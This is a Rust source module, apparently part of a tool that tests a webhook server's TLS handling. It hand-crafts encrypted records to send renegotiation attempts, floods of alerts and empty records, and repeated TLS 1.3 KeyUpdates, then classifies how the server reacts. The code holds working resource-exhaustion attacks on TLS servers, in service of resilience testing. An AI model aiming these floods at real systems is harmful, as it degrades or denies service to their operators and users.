//! TLS records that libraries for clients don't send.

use std::io;
use std::time::Duration;

use ring::aead::{Aad, CHACHA20_POLY1305, LessSafeKey, Nonce, UnboundKey};
use rustls::{ConnectionTrafficSecrets, ExtractedSecrets};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout_at};

use crate::attacks::Fate;
use crate::client::Target;
use crate::scripts::{LONGEST, record};

/// Content types (RFC 5246, section 6.2.1).
const ALERT: u8 = 21;
const HANDSHAKE: u8 = 22;
const DATA: u8 = 23;

/// A warning that the peer doesn't want to negotiate again (RFC 5246, section 7.2.2).
const NO_RENEGOTIATION: [u8; 2] = [1, 100];
/// A warning without any meaning for the connection.
const USER_CANCELED: [u8; 2] = [1, 90];

/// What is done with records.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Abuse {
    /// TLS 1.2: ClientHello again, inside the connection, and a hundred times when it is refused.
    Renegotiation,
    /// TLS 1.2: warnings without end.
    Warnings,
    /// TLS 1.2: records with nothing in them.
    Nothing,
    /// TLS 1.3: KeyUpdate without end; the peer has to compute new keys each time, and to answer.
    KeyUpdates,
    /// The same, but between the bytes of a request: what limits the others may begin to count anew.
    KeyUpdatesAndData,
}

/// All of them.
pub const ALL: [Abuse; 5] = [
    Abuse::Renegotiation,
    Abuse::Warnings,
    Abuse::Nothing,
    Abuse::KeyUpdates,
    Abuse::KeyUpdatesAndData,
];

impl Abuse {
    /// Does it to the webhook.
    pub async fn run(self, target: &Target) -> Fate {
        let deadline = Instant::now() + LONGEST;
        let abused = async {
            match self {
                Self::Renegotiation => renegotiate(target).await,
                Self::Warnings => flood(target, ALERT, &USER_CANCELED).await,
                Self::Nothing => flood(target, DATA, b"").await,
                Self::KeyUpdates => update_keys(target, b"").await,
                Self::KeyUpdatesAndData => {
                    update_keys(target, b"POST /mutate HTTP/1.1\r\nHost:").await
                }
            }
        };
        match timeout_at(deadline, abused).await {
            Ok(Ok(fate)) => fate,
            Ok(Err(_)) => Fate::Refused,
            Err(_) => Fate::Stayed,
        }
    }
}

async fn renegotiate(target: &Target) -> io::Result<Fate> {
    let mut records = Records::open(target).await?;
    let start = Instant::now();
    // Without the header of the record, which is in plain text.
    let hello = target.hello_older().split_off(5);
    records.send(HANDSHAKE, &hello).await?;
    // The refusal comes with the next answer, and the connection goes on.
    records.send(DATA, b"GET / HTTP/1.1\r\nHost: webhook\r\n\r\n").await?;
    let answers = [records.receive().await?, records.receive().await?];
    let [(ALERT, alert), (DATA, answer)] = answers else {
        return Ok(Fate::Wrong(format!("a second ClientHello is answered with {answers:?}")));
    };
    if alert != NO_RENEGOTIATION || !answer.starts_with(b"HTTP/1.1 4") {
        return Ok(Fate::Wrong(format!("after a second ClientHello: {alert:?}, {answer:?}")));
    }
    for _ in 0..100 {
        if records.send(HANDSHAKE, &hello).await.is_err() {
            break;
        }
    }
    while let Ok((content_type, _)) = records.receive().await {
        if content_type == HANDSHAKE {
            return Ok(Fate::Wrong("a second handshake begins".to_owned()));
        }
    }
    Ok(Fate::Ended(start.elapsed()))
}

/// A thousand records of one kind.
async fn flood(target: &Target, content_type: u8, content: &[u8]) -> io::Result<Fate> {
    let mut records = Records::open(target).await?;
    let start = Instant::now();
    for _ in 0..1000 {
        if records.send(content_type, content).await.is_err() {
            break;
        }
    }
    while records.receive().await.is_ok() {}
    Ok(Fate::Ended(start.elapsed()))
}

/// A hundred KeyUpdates, or twenty before each byte of `data`.
async fn update_keys(target: &Target, data: &[u8]) -> io::Result<Fate> {
    let mut stream = target.connect().await?;
    let start = Instant::now();
    let rounds = match data {
        b"" => vec![(100, &b""[..])],
        data => data.chunks(1).map(|byte| (20, byte)).collect(),
    };
    let flooded = async {
        for (updates, data) in rounds {
            for _ in 0..updates {
                stream.get_mut().1.refresh_traffic_keys().map_err(io::Error::other)?;
                stream.flush().await?;
            }
            stream.write_all(data).await?;
            stream.flush().await?;
            sleep(Duration::from_millis(100)).await;
        }
        while stream.read(&mut [0; 1024]).await? > 0 {}
        Ok::<_, io::Error>(())
    };
    // Interrupted or not, the connection is over.
    let _ = flooded.await;
    Ok(Fate::Ended(start.elapsed()))
}

/// A connection of TLS 1.2 whose records are made here (RFC 7905).
struct Records {
    tcp: TcpStream,
    ours: Direction,
    theirs: Direction,
}

impl Records {
    async fn open(target: &Target) -> io::Result<Self> {
        let (tcp, connection) = target.connect_older().await?.into_inner();
        let secrets = connection.dangerous_extract_secrets().map_err(io::Error::other)?;
        let ExtractedSecrets { tx, rx } = secrets;
        Ok(Self { tcp, ours: Direction::new(tx), theirs: Direction::new(rx) })
    }

    async fn send(&mut self, content_type: u8, content: &[u8]) -> io::Result<()> {
        let mut content = content.to_vec();
        let (nonce, aad) = self.ours.next(content_type, content.len());
        self.ours.key.seal_in_place_append_tag(nonce, aad, &mut content).unwrap();
        self.tcp.write_all(&record(content_type, &content)).await
    }

    async fn receive(&mut self) -> io::Result<(u8, Vec<u8>)> {
        let mut header = [0; 5];
        self.tcp.read_exact(&mut header).await?;
        let mut content = vec![0; usize::from(u16::from_be_bytes([header[3], header[4]]))];
        self.tcp.read_exact(&mut content).await?;
        let length = content.len().saturating_sub(CHACHA20_POLY1305.tag_len());
        let (nonce, aad) = self.theirs.next(header[0], length);
        let opened = self.theirs.key.open_in_place(nonce, aad, &mut content);
        let opened = opened.map_err(|_| io::ErrorKind::InvalidData)?;
        Ok((header[0], opened.to_vec()))
    }
}

/// One direction of a connection.
struct Direction {
    key: LessSafeKey,
    iv: [u8; 12],
    sequence: u64,
}

impl Direction {
    fn new((sequence, secrets): (u64, ConnectionTrafficSecrets)) -> Self {
        let ConnectionTrafficSecrets::Chacha20Poly1305 { key, iv } = secrets else {
            panic!("another suite than the one that is offered")
        };
        let key = UnboundKey::new(&CHACHA20_POLY1305, key.as_ref()).unwrap();
        let iv = iv.as_ref().try_into().unwrap();
        Self { key: LessSafeKey::new(key), iv, sequence }
    }

    /// What the next record is sealed with.
    fn next(&mut self, content_type: u8, length: usize) -> (Nonce, Aad<[u8; 13]>) {
        let sequence = self.sequence.to_be_bytes();
        self.sequence += 1;
        let mut nonce = self.iv;
        nonce[4..].iter_mut().zip(sequence).for_each(|(nonce, byte)| *nonce ^= byte);
        let length = u16::try_from(length).unwrap().to_be_bytes();
        let aad = [&sequence[..], &[content_type, 3, 3], &length].concat();
        (Nonce::assume_unique_for_key(nonce), Aad::from(aad.try_into().unwrap()))
    }
}
